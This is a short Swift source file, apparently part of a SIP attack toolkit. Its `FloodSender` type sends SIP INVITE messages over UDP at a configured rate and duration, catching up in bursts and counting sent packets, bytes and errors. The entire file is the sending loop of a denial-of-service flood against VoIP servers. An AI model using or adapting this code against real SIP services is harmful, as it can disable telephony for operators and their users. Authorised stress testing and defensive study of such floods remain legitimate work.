import SIPAttackSupport

/// Sends the INVITEs at `rate` for `duration` seconds on the calling thread,
/// catching up in bursts when the thread was descheduled.
enum FloodSender {
    static func run(socket: UDPSocket, builder: FloodInviteBuilder, rate: Double, duration: Double, counters: FloodCounters) {
        let start = MonotonicClock.now()
        let total = Int(rate * duration)
        var sent = 0
        while sent < total {
            let elapsed = MonotonicClock.now() - start
            if elapsed >= duration { break }
            let due = min(total, Int(elapsed * rate) + 1)
            var bytes = 0
            var errors = 0
            let before = sent
            while sent < due {
                sent += 1
                let invite = builder.invite(sent)
                if socket.send(invite) != 0 { errors += 1 }
                bytes += invite.count
            }
            counters.recordSent(count: sent - before, bytes: bytes, errors: errors)
            MonotonicClock.sleep(seconds: 0.0005)
        }
    }
}
